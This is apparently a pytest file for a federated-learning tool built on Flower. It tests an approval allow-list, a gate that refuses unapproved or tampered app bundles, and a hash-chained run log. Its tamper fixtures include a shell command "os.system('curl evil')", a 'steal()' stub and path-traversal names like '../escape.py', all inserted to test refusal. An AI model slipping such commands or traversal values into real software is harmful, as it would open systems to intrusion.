"""A site approves the code it runs (`medfed.deploy.approval`, `medfed.deploy.clientapp_gate`,
``medfed site approve | log``).

The gate is exercised in this process on Flower's own ``run_clientapp`` module (its network calls
replaced); tests/test_warm_exec.py runs it in real forked and fresh ClientApp processes.
"""

from __future__ import annotations

import io
import json
import multiprocessing
import os
import stat
import sys
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from medfed.cli import app
from medfed.deploy import approval, clientapp_gate, run_log
from medfed.deploy.approval import (
    add_approval,
    approvals_file,
    describe_fab,
    load_approvals,
    sha256_hex,
    write_initial_approvals,
)
from medfed.deploy.clientapp_gate import GateSettings
from medfed.deploy.run_log import append_run, run_log_file, verify_run_log
from medfed.exceptions import AppNotApproved, ConfigError, FederationError, RunLogError
from medfed.flower_patches import clientapp_seam

runner = CliRunner()
PYPROJECT = ('[project]\nname = "tinyapp"\nversion = "1.2.3"\n\n[tool.flwr.app]\npublisher = "test"\n\n'
             '[tool.flwr.app.components]\nserverapp = "tinyapp.server:app"\nclientapp = "tinyapp.client:app"\n')


def tiny_fab(code: str = "app = 1\n") -> bytes:
    """A real, small Flower app bundle, built by Flower."""
    from flwr.cli.build import build_fab_from_files

    return build_fab_from_files({"pyproject.toml": PYPROJECT.encode(), "tinyapp/__init__.py": b"",
                                 "tinyapp/client.py": code.encode(), "tinyapp/server.py": b""})[0]


def rezip(fab: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
          drop: tuple[str, ...] = ()) -> bytes:
    """``fab`` with some members' bytes replaced, added or dropped, its manifest left as it was."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(fab)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename not in drop:
                dst.writestr(info.filename, (replace or {}).get(info.filename, src.read(info.filename)))
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


@pytest.fixture()
def kit(tmp_path: Path) -> Path:
    folder = tmp_path / "h1"
    folder.mkdir()
    (folder / "site.toml").write_text('site-name = "h1"\n')
    return folder


# ------------------------------------------------------------------------------------ the allow-list

def test_approvals_round_trip_private_and_deduplicated(kit: Path) -> None:
    fab, other = tiny_fab(), tiny_fab("app = 2\n")
    write_initial_approvals(kit, fab)
    path = approvals_file(kit)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    [first] = load_approvals(path)
    assert first.sha256 == sha256_hex(fab) and first.medfed_version == "1.2.3" and first.files == 4
    assert first.approved_by == "medfed provision" and first.approved_at.endswith("+00:00")
    entry, new = add_approval(path, other, "dr. who", now="2030-01-01T00:00:00+00:00")
    assert new and entry.approved_by == "dr. who" and entry.approved_at == "2030-01-01T00:00:00+00:00"
    again, new = add_approval(path, fab, "someone else")
    assert not new and again == first  # an approved app keeps its first entry
    assert approval.approved_hashes(path) == {sha256_hex(fab), sha256_hex(other)}
    raw = json.loads(path.read_text())
    assert raw["format"] == "medfed-approved-apps/1"
    assert [a["sha256"] for a in raw["apps"]] == [first.sha256, entry.sha256]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and not list(kit.glob(".*.tmp"))


@pytest.mark.parametrize("content, match", [
    (None, "not found: this site has approved no app; approve one with `medfed site approve"),
    ("{not json", "not valid JSON"),
    ('["a"]', "not a medfed approved-apps file"),
    ('{"format": "medfed-approved-apps/9", "apps": []}', "not a medfed approved-apps file"),
    ('{"format": "medfed-approved-apps/1", "apps": [{"sha256": "abc"}]}', "lacks medfed_version, approved_at"),
    ('{"format": "medfed-approved-apps/1", "apps": [{"sha256": "ABC", "medfed_version": "1", "approved_at": "t", '
     '"approved_by": "x", "files": 1}]}', "sha256 must be 64 lowercase hex digits"),
    ('{"format": "medfed-approved-apps/1", "apps": [{"sha256": "' + "a" * 64 + '", "medfed_version": "1", '
     '"approved_at": "t", "approved_by": "x", "files": 0}]}', "files of app aaaaaaaaaaaaaaaa… must be a positive"),
])
def test_bad_approvals_files_are_refused_with_the_reason(tmp_path: Path, content, match) -> None:
    path = tmp_path / "approved-apps.json"
    if content is not None:
        path.write_text(content)
        path.chmod(0o600)
    with pytest.raises(ConfigError, match=match):
        load_approvals(path)


def test_an_approvals_file_others_can_write_is_refused(kit: Path) -> None:
    write_initial_approvals(kit, tiny_fab())
    approvals_file(kit).chmod(0o666)
    with pytest.raises(ConfigError, match="writable by others than its owner.*chmod 600"):
        load_approvals(approvals_file(kit))


def test_an_invalid_fab_is_never_approved(kit: Path) -> None:
    with pytest.raises(ConfigError, match="not a valid Flower app bundle"):
        add_approval(approvals_file(kit), b"not a zip", "me")
    assert not approvals_file(kit).exists()


# ------------------------------------------------------------------------------------ describe a FAB

def test_describe_fab_lists_the_files_and_their_hashes() -> None:
    import hashlib

    fab = tiny_fab()
    d = describe_fab(fab)
    assert d.sha256 == sha256_hex(fab) and d.project == "tinyapp" and d.medfed_version == "1.2.3"
    assert [f.path for f in d.files] == ["pyproject.toml", "tinyapp/__init__.py", "tinyapp/client.py",
                                        "tinyapp/server.py"]
    client = next(f for f in d.files if f.path == "tinyapp/client.py")
    assert client.sha256 == hashlib.sha256(b"app = 1\n").hexdigest() and client.size == 8
    assert d.lines()[0] == f"app sha256:{d.sha256}" and any(line.endswith("tinyapp/client.py") for line in d.lines())


@pytest.mark.parametrize("tamper, match", [
    (lambda f: rezip(f, replace={"tinyapp/client.py": b"import os; os.system('curl evil')\n"}),
     "'tinyapp/client.py' does not match its manifest entry"),
    (lambda f: rezip(f, add={"tinyapp/hidden.py": b"steal()\n"}),
     "files its manifest does not list: tinyapp/hidden.py"),
    (lambda f: rezip(f, drop=("tinyapp/server.py",)), "lists 'tinyapp/server.py', which is not in the zip"),
    (lambda f: rezip(f, drop=(".info/CONTENT",)), "no .info/CONTENT manifest"),
    (lambda f: rezip(f, replace={".info/CONTENT": b"garbage"}), "line 1 is not 'path,sha256,size in bits'"),
    (lambda f: rezip(f, add={"../escape.py": b""}), "unsafe file name '../escape.py'"),
    (lambda f: f[:200], "not a zip archive"),
])
def test_describe_fab_refuses_a_fab_whose_manifest_lies(tamper, match) -> None:
    with pytest.raises(ConfigError, match=match):
        describe_fab(tamper(tiny_fab()))


# ------------------------------------------------------------------------------------ this release

def _fab_that_flwr_run_submits(app_dir: Path, monkeypatch: pytest.MonkeyPatch) -> bytes:
    """What ``flwr run APP_DIR`` puts in its StartRun request (the Control API replaced by a fake)."""
    import importlib

    flwr_run = importlib.import_module("flwr.cli.run.run")  # the module (flwr.cli.run exports a function `run`)
    sent = []

    class Control:
        def StartRun(self, request):
            sent.append(request)
            raise RuntimeError("captured")

        def close(self) -> None:
            pass

    monkeypatch.setattr(flwr_run, "read_superlink_connection",
                        lambda name: SimpleNamespace(federation=None, options=None))
    monkeypatch.setattr(flwr_run, "init_http_client_from_connection", lambda conn: Control())
    with pytest.raises(Exception, match="captured"):  # flwr re-raises our fake's error as a ClickException
        flwr_run.run(app=str(app_dir), superlink="medfed", federation=None, run_config_overrides=None,
                     federation_config_overrides=None, stream=False, output_format="default")
    [request] = sent
    assert request.fab.hash_str == sha256_hex(request.fab.content)
    return request.fab.content


def test_the_release_fab_is_the_one_medfed_run_submits(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from medfed.deploy.processes import stage_app

    staged = stage_app(tmp_path / "app")  # as `medfed run` stages it
    ours = approval.build_app_fab(staged)
    assert approval.build_app_fab(staged) == ours  # deterministic
    assert _fab_that_flwr_run_submits(staged, monkeypatch) == ours
    from flwr.cli.config_utils import get_fab_metadata

    assert approval.fab_app_id(ours) == get_fab_metadata(ours)  # the app id and version the SuperLink gives the run
    assert approval.fab_app_id(tiny_fab()) == get_fab_metadata(tiny_fab()) == ("test/tinyapp", "1.2.3")
    described = describe_fab(approval.release_app_fab())
    import medfed

    assert described.project == "medfed" and described.medfed_version == medfed.__version__
    paths = {f.path for f in described.files}
    assert {"pyproject.toml", "medfed/deploy/approval.py", "medfed/client_app.py"} <= paths
    assert not any("__pycache__" in p for p in paths)


# ------------------------------------------------------------------------------------ the gate

@pytest.fixture()
def gated(kit: Path, monkeypatch: pytest.MonkeyPatch):
    """Flower's run_clientapp module with a sentinel in place of its install_from_fab and a fake
    pull_task_input, then the gate installed over them (monkeypatch restores Flower's own)."""
    import flwr.supernode.runtime.run_clientapp as rc

    approved = tiny_fab()
    write_initial_approvals(kit, approved)
    settings = GateSettings.for_kit(kit, "h1")
    installs: list[bytes] = []
    task = SimpleNamespace(fab=approved, run_id=7, declared=None, config={"lr": 0.1, "data": "/secret/path.npz"},
                           version="1.2.3")

    def pull(client):
        fab = SimpleNamespace(hash_str=task.declared or sha256_hex(task.fab), content=task.fab)
        context = SimpleNamespace(run_config=task.config)
        run = SimpleNamespace(run_id=task.run_id, fab_id="test/tinyapp", fab_version=task.version, override_config={})
        return "message", context, run, fab

    monkeypatch.setattr(rc, "install_from_fab", lambda fab, *a, **k: installs.append(fab) or Path("/installed"))
    monkeypatch.setattr(rc, "pull_task_input", pull)
    monkeypatch.setattr(clientapp_gate, "_current", clientapp_gate._Task())
    clientapp_gate.install(settings)

    def run_task(fab: bytes, run_id: int = 7, declared: str | None = None, version: str = "1.2.3"):
        task.fab, task.run_id, task.declared, task.version = fab, run_id, declared, version
        _, _, _, pulled = rc.pull_task_input(None)
        return rc.install_from_fab(pulled.content, skip_prompt=True)

    return SimpleNamespace(rc=rc, settings=settings, approved=approved, installs=installs, run_task=run_task)


def test_the_gate_refuses_an_unapproved_fab_before_flower_installs_it(gated, capfd) -> None:
    bad = tiny_fab("app = 'exfiltrate'\n")
    with pytest.raises(AppNotApproved) as refused:
        gated.run_task(bad)
    assert str(refused.value) == (f"site h1 refused app sha256:{sha256_hex(bad)}: not in its approved apps "
                                  "(medfed site approve)")
    assert gated.installs == []  # Flower's install_from_fab never ran
    assert f"site h1 refused app sha256:{sha256_hex(bad)}" in capfd.readouterr().err
    assert gated.run_task(gated.approved) == Path("/installed")
    assert gated.installs == [gated.approved]


def test_the_gate_reads_the_allow_list_for_every_task(gated) -> None:
    new = tiny_fab("app = 3\n")
    with pytest.raises(AppNotApproved):
        gated.run_task(new, run_id=8)
    add_approval(gated.settings.approved_apps, new, "me")
    gated.run_task(new, run_id=9)
    approvals_file(gated.settings.approved_apps.parent).unlink()
    with pytest.raises(AppNotApproved, match="its approved-apps file cannot be read"):
        gated.run_task(gated.approved, run_id=10)
    assert gated.installs == [new]


def test_the_gate_refuses_bytes_that_differ_from_the_declared_hash(gated) -> None:
    with pytest.raises(AppNotApproved, match="do not match the hash its task declared"):
        gated.run_task(tiny_fab("app = 4\n"), declared=sha256_hex(gated.approved))
    assert gated.installs == []


def test_each_run_is_logged_once_with_its_config_digest_and_no_paths(gated) -> None:
    bad = tiny_fab("app = 5\n")
    for _ in range(3):  # three rounds of one run
        gated.run_task(gated.approved, run_id=21)
        with pytest.raises(AppNotApproved):
            gated.run_task(bad, run_id=22)
    entries = verify_run_log(gated.settings.run_log)
    assert [(e["run_id"], e["outcome"], e["app_sha256"]) for e in entries] == [
        (21, "approved", sha256_hex(gated.approved)), (22, "refused", sha256_hex(bad))]
    assert entries[0]["run_config_sha256"] == run_log.run_config_digest({"lr": 0.1, "data": "/secret/path.npz"})
    text = gated.settings.run_log.read_text()
    assert "/secret" not in text and "path.npz" not in text
    assert stat.S_IMODE(gated.settings.run_log.stat().st_mode) == 0o600


def test_an_approved_fab_is_refused_when_its_run_names_another_app(gated) -> None:
    """Flower loads the ClientApp from the folder named by the run's app id and version: they must be
    the approved FAB's, or another installed app would run."""
    with pytest.raises(AppNotApproved, match="its run names app test/tinyapp ../../elsewhere, not the one in its "
                                             "bundle \\(test/tinyapp 1.2.3\\)"):
        gated.run_task(gated.approved, version="../../elsewhere")
    assert gated.installs == []
    gated.run_task(gated.approved, version="1.2.3")
    assert gated.installs == [gated.approved]


def test_an_approved_run_that_cannot_be_logged_is_refused(gated) -> None:
    gated.settings.run_log.parent.mkdir(parents=True, exist_ok=True)
    gated.settings.run_log.write_text("tampered\n")
    with pytest.raises(AppNotApproved, match="cannot be recorded in its run log"):
        gated.run_task(gated.approved)
    assert gated.installs == []


def test_the_gate_imports_nothing_of_medfed_once_installed(gated, monkeypatch) -> None:
    """The ClientApp imports the submitted app's medfed after the site's is dropped: the gate must not
    bring the site's back (it runs from what it imported when installed)."""
    monkeypatch.setattr(sys, "modules", dict(sys.modules))
    clientapp_gate.forget_own_modules()
    gated.run_task(gated.approved, run_id=31)
    with pytest.raises(Exception, match="refused app"):
        gated.run_task(tiny_fab("app = 6\n"), run_id=32)
    assert not [m for m in sys.modules if m == "medfed" or m.startswith("medfed.")]


def test_run_clientapp_answers_a_refused_app_with_an_error_naming_its_hash(kit, monkeypatch) -> None:
    """Flower's own run_clientapp: the refusal reaches the server as an Error reply."""
    import flwr.supernode.runtime.run_clientapp as rc
    from flwr.app import Context, Message, RecordDict
    from flwr.supercore.fab import Fab
    from flwr.supercore.task_identity import TaskIdentity

    for name, value in (("_run_id", 11), ("_node_id", 5), ("_task_id", 1)):
        monkeypatch.setattr(TaskIdentity, name, value)
    write_initial_approvals(kit, tiny_fab())
    bad = tiny_fab("app = 'exfiltrate'\n")
    message = Message(RecordDict(), dst_node_id=5, message_type="train")
    message.metadata.__dict__["_message_id"] = "m1"
    context = Context(run_id=11, node_id=5, node_config={}, state=RecordDict(), run_config={"lr": 0.1})
    run = SimpleNamespace(run_id=11, fab_id="test/tinyapp", fab_version="1.2.3", override_config={})  # as Flower's Run
    pushed, exits, installs = [], [], []

    class Heartbeat:
        is_running = False

        def __init__(self, *_): pass

        def start(self): pass

    monkeypatch.setattr(rc, "pull_task_input", lambda client: (message, context, run, Fab(sha256_hex(bad), bad, {})))
    monkeypatch.setattr(rc, "install_from_fab", lambda *a, **k: installs.append(a))
    monkeypatch.setattr(rc, "push_message", lambda client, reply, ctx: pushed.append(reply))
    monkeypatch.setattr(rc, "HeartbeatSender", Heartbeat)
    monkeypatch.setattr(rc, "register_signal_handlers", lambda **_: None)
    monkeypatch.setattr(rc, "event", lambda *_, **__: None)
    monkeypatch.setattr(rc, "flwr_exit", lambda code, **_: exits.append(code))
    monkeypatch.setattr(rc.RuntimeHttpClient, "from_server_address", staticmethod(lambda **_: SimpleNamespace()))
    monkeypatch.setattr(clientapp_gate, "_current", clientapp_gate._Task())
    clientapp_gate.install(GateSettings.for_kit(kit, "h1"))
    rc.run_clientapp(runtime_api_address="127.0.0.1:1", token="t", insecure=True)
    assert installs == [] and len(pushed) == 1 and pushed[0].has_error()
    assert f"site h1 refused app sha256:{sha256_hex(bad)}: not in its approved apps" in pushed[0].error.reason
    [entry] = verify_run_log(run_log_file(kit))
    assert entry["run_id"] == 11 and entry["outcome"] == "refused"
    assert entry["run_config_sha256"] == run_log.run_config_digest({"lr": 0.1})


def test_the_gate_refuses_to_run_on_a_flower_without_its_seam(monkeypatch) -> None:
    import flwr.supernode.runtime.run_clientapp as rc

    monkeypatch.setattr(rc, "run_clientapp", lambda *a, **k: None)  # no longer calls install_from_fab
    with pytest.raises(FederationError, match="no longer calls pull_task_input"):
        clientapp_seam.target_module()
    monkeypatch.undo()
    monkeypatch.delattr(rc, "install_from_fab")
    with pytest.raises(FederationError, match="no longer calls install_from_fab"):
        clientapp_seam.target_module()


def test_gate_settings_come_from_the_environment_or_the_gate_refuses() -> None:
    with pytest.raises(ConfigError, match="MEDFED_GATE_APPROVED_APPS, MEDFED_GATE_RUN_LOG, MEDFED_GATE_SITE not set"):
        GateSettings.from_env({})
    s = GateSettings(Path("/k/approved-apps.json"), Path("/k/state/run-log.jsonl"), "h1")
    assert GateSettings.from_env(s.to_env()) == s


# ------------------------------------------------------------------------------------ the run log

def _append(path: Path, run_id: int, outcome: str = "approved") -> dict | None:
    return append_run(path, run_id=run_id, app_sha256="a" * 64, run_config_sha256="b" * 64, outcome=outcome)


def test_the_run_log_chains_its_entries(tmp_path: Path) -> None:
    path = tmp_path / "state" / "run-log.jsonl"
    assert verify_run_log(path) == []
    first, second = _append(path, 1), _append(path, 2, "refused")
    assert _append(path, 1) is None  # once per run and outcome
    assert first["prev"] == run_log.GENESIS and second["prev"] == first["hash"]
    assert verify_run_log(path) == [first, second]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with pytest.raises(ValueError, match="outcome must be one of"):
        _append(path, 3, "maybe")


@pytest.mark.parametrize("tamper, match", [
    (lambda lines: [lines[0].replace('"run_id":1', '"run_id":9'), *lines[1:]], "line 1: its hash does not match"),
    (lambda lines: [lines[0], lines[2]], "line 2: does not follow line 1"),
    (lambda lines: lines[1:], "line 1: does not follow line 0"),
    (lambda lines: [lines[1], lines[0], lines[2]], "line 1: does not follow"),
    (lambda lines: [*lines[:2], "{}", lines[2]], "line 3: not a run-log entry"),
    (lambda lines: [lines[0], "not json", *lines[1:]], "line 2: not a JSON entry"),
])
def test_verify_run_log_finds_edits_deletions_and_reordering(tmp_path: Path, tamper, match) -> None:
    path = tmp_path / "run-log.jsonl"
    for run_id in (1, 2, 3):
        _append(path, run_id)
    path.write_text("\n".join(tamper(path.read_text().splitlines())) + "\n")
    with pytest.raises(RunLogError, match=match):
        verify_run_log(path)
    with pytest.raises(RunLogError):
        _append(path, 4)  # a broken chain is not extended


def test_a_cut_last_line_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "run-log.jsonl"
    _append(path, 1)
    path.write_bytes(path.read_bytes()[:-10])
    with pytest.raises(RunLogError, match="last line is incomplete"):
        verify_run_log(path)


def _append_many(path: str, start: int) -> None:
    for run_id in range(start, start + 15):
        _append(Path(path), run_id)


def test_concurrent_appends_from_forked_processes_keep_the_chain(tmp_path: Path) -> None:
    path = tmp_path / "run-log.jsonl"
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_append_many, args=(str(path), 100 * i)) for i in range(4)]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=60)
        assert w.exitcode == 0
    entries = verify_run_log(path)
    assert len(entries) == 60 and len({e["run_id"] for e in entries}) == 60


# ------------------------------------------------------------------------------------ the CLI

def said(result) -> str:
    return " ".join(result.output.split())


def test_site_approve_shows_the_app_and_records_it(kit: Path, tmp_path: Path) -> None:
    fab = tmp_path / "app.fab"
    fab.write_bytes(tiny_fab())
    result = runner.invoke(app, ["site", "approve", "--kit", str(kit), "--fab", str(fab), "--yes", "--by", "dr. a"])
    assert result.exit_code == 0, result.output
    digest = sha256_hex(fab.read_bytes())
    assert f"app sha256:{digest}" in result.output and "tinyapp/client.py" in result.output
    assert "project tinyapp version 1.2.3, 4 files" in said(result) and "approved app sha256:" in result.output
    [entry] = load_approvals(approvals_file(kit))
    assert entry.sha256 == digest and entry.approved_by == "dr. a"
    again = runner.invoke(app, ["site", "--kit", str(kit), "approve", "--fab", str(fab)])  # the group's --kit
    assert again.exit_code == 0 and "already approved" in again.output


def test_site_approve_asks_and_refuses_without_a_terminal(kit: Path, tmp_path: Path, monkeypatch) -> None:
    from medfed.deploy import site_commands

    fab = tmp_path / "app.fab"
    fab.write_bytes(tiny_fab())
    result = runner.invoke(app, ["site", "approve", "--kit", str(kit), "--fab", str(fab)])
    assert result.exit_code == 2 and "pass --yes" in said(result) and not approvals_file(kit).exists()
    monkeypatch.setattr(site_commands, "_interactive", lambda: True)
    result = runner.invoke(app, ["site", "approve", "--kit", str(kit), "--fab", str(fab)], input="n\n")
    assert result.exit_code == 1 and "not approved" in result.output and not approvals_file(kit).exists()
    result = runner.invoke(app, ["site", "approve", "--kit", str(kit), "--fab", str(fab)], input="y\n")
    assert result.exit_code == 0 and load_approvals(approvals_file(kit))[0].sha256 == sha256_hex(fab.read_bytes())


@pytest.mark.parametrize("args, match", [
    (["--fab", "x.fab", "--release"], "exactly one of --fab FILE"),
    ([], "exactly one of --fab FILE"),
    (["--fab", "/no/such.fab"], "--fab /no/such.fab: cannot be read"),
])
def test_site_approve_bad_input(kit: Path, args, match) -> None:
    result = runner.invoke(app, ["site", "approve", "--kit", str(kit), "--yes", *args])
    assert result.exit_code == 2 and match in said(result)


def test_site_approve_needs_a_site_kit(tmp_path: Path) -> None:
    result = runner.invoke(app, ["site", "approve", "--kit", str(tmp_path), "--release", "--yes"])
    assert result.exit_code == 2 and "site.toml not found" in said(result)


def test_site_approve_release_approves_what_medfed_run_submits(kit: Path) -> None:
    result = runner.invoke(app, ["site", "approve", "--kit", str(kit), "--release", "--yes"])
    assert result.exit_code == 0, result.output
    [entry] = load_approvals(approvals_file(kit))
    assert entry.sha256 == approval.release_app_hash() and "medfed/deploy/approval.py" in result.output


def test_site_log_prints_and_verifies(kit: Path) -> None:
    empty = runner.invoke(app, ["site", "log", "--kit", str(kit)])
    assert empty.exit_code == 0 and "no runs recorded yet" in empty.output
    _append(run_log_file(kit), 41)
    _append(run_log_file(kit), 42, "refused")
    result = runner.invoke(app, ["site", "log", "--kit", str(kit)])
    assert result.exit_code == 0 and "run 41 approved" in said(result) and "run 42 refused" in said(result)
    assert "chain verified: 2 entries" in said(result)
    lines = run_log_file(kit).read_text().splitlines()
    run_log_file(kit).write_text(lines[1] + "\n")
    broken = runner.invoke(app, ["site", "log", "--kit", str(kit)])
    assert broken.exit_code == 1 and "line 1: does not follow line 0" in said(broken)


def test_site_without_a_subcommand_still_needs_its_kit() -> None:
    result = runner.invoke(app, ["site"])
    assert result.exit_code == 2 and "Missing option '--kit'" in said(result)


def test_the_superexec_refuses_to_start_without_an_allow_list(tmp_path: Path) -> None:
    from medfed.deploy.warm_exec import gate_settings_from_args

    with pytest.raises(ConfigError, match="approved no app"):
        gate_settings_from_args(str(tmp_path / "approved-apps.json"), str(tmp_path / "run-log.jsonl"), "h1")
    write_initial_approvals(tmp_path, tiny_fab())
    settings = gate_settings_from_args(str(tmp_path / "approved-apps.json"), str(tmp_path / "run-log.jsonl"), "h1")
    assert settings.site == "h1" and settings.approved_apps.is_absolute()
    assert os.environ.get(clientapp_gate.APPROVALS_ENV) is None  # checking changes nothing


def test_a_planted_folder_at_the_approved_apps_install_path_is_replaced(tmp_path, monkeypatch) -> None:
    """Flower loads FLWR_HOME/apps/<id>.<version>.<8 hex of the hash> and keeps a folder already there:
    a folder that is not exactly the approved files is removed before the approved bytes are installed."""
    import hashlib

    from flwr.cli.install import install_from_fab
    from flwr.common.config import get_project_dir

    from medfed.deploy import approval as appr
    from medfed.deploy.clientapp_gate import clear_stale_install, installed_app_matches

    monkeypatch.setenv("FLWR_HOME", str(tmp_path / "home"))
    fab = appr.release_app_fab()
    digest = hashlib.sha256(fab).hexdigest()
    fab_id, version = appr.fab_app_id(fab)
    target = get_project_dir(fab_id, version, digest)
    target.mkdir(parents=True)
    (target / "PLANTED").write_text("not the approved code")
    assert not installed_app_matches(target, fab)
    clear_stale_install(fab, fab_id, version, digest)
    assert not target.exists()
    installed = install_from_fab(fab, skip_prompt=True)
    assert installed == target and installed_app_matches(target, fab)
    clear_stale_install(fab, fab_id, version, digest)  # the right files: left as they are
    assert installed_app_matches(target, fab)
    (target / "medfed" / "client" / "app.py").write_text("import os  # tampered\n")
    clear_stale_install(fab, fab_id, version, digest)
    assert not target.exists()
